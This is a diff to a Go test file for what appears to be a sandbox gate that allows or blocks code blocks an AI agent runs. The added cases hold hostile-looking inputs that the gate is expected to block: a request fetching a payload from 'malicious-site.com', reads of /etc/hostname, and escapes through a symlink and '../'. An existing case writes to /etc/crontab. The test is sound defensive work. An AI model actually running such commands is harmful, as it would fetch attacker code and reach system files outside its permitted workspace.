@@ -20,10 +20,13 @@ func gateSite(t *testing.T, guard fixture.Guard) *fixture.Site {
 	if err == nil {
 		err = s.PutVenv(".venv")
 	}
-	for _, entry := range []string{"workspace/", ".git/", "process_data.py", "workspace/out -> ../..", "workspace/deep -> ../.venv/bin"} {
+	for _, entry := range []string{"workspace/", ".git/", "process_data.py", "data.csv", "workspace/out -> ../..", "workspace/deep -> ../.venv/bin"} {
 		if err == nil {
 			err = s.Put(entry, "")
 		}
+	}
+	if err == nil {
+		err = s.Put("count.py", "print(len(open('data.csv').readlines()))\n")
 	}
 	if err != nil {
 		t.Fatal(err)
@@ -134,6 +137,20 @@ func TestGateBlocks(t *testing.T) {
 		{"writes to the workspace", []block{python("open('workspace/x.json', 'w').write('{}')")}, "ALLOW", "allow-python-exec"},
 		{"writes elsewhere", []block{python("open('/etc/crontab', 'w').write('x')")}, "BLOCK", "deny-write-outside"},
 		{"writes elsewhere by a way out", []block{python("open('workspace/../../etc/crontab', 'w').write('x')")}, "BLOCK", "deny-write-outside"},
+
+		{"goes to a host", []block{python("import requests\nrequests.get('https://malicious-site.com/payload')")}, "BLOCK", "deny-network"},
+		{"goes to one that is allowed", []block{python("import requests\nprint(requests.get('https://pypi.org/simple/').text)")}, "ALLOW", "allow-pypi"},
+
+		// "Processes data.csv and outputs summary.json": what is allowed to run
+		// reads its project, and nothing else.
+		{"reads its project", []block{python("import pandas as pd\ndf = pd.read_csv('data.csv')\ndf.describe().to_json('workspace/summary.json')")}, "ALLOW", "allow-write-workspace"},
+		{"reads it as a script", []block{shell("python3 count.py")}, "ALLOW", "allow-python-exec"},
+		{"reads the machine's files", []block{python("print(open('/etc/hostname').read())")}, "BLOCK", "default"},
+		{"reads them by a link", []block{python("print(open('workspace/out/x').read())")}, "BLOCK", "default"},
+		{"reads what it has worked out", []block{python("import sys\nprint(open(sys.stdin.readline()).read())")}, "BLOCK", "default"},
+		{"the shell reads", []block{shell("python3 process_data.py < data.csv")}, "BLOCK", "default"},
+		{"code and the shell read", []block{python("open('data.csv').read()"), shell("python3 process_data.py < data.csv")}, "BLOCK", "default"},
+		{"an interpreter reads that no rule allows", []block{{"language": "python", "code": "open('data.csv').read()", "interpreter": "/opt/py/bin/python"}}, "BLOCK", "default"},
 
 		// A block is judged whole, and so are all of them.
 		{"an install in an environment", []block{shell("pip install pandas")}, "ALLOW", "allow-pip-install"},
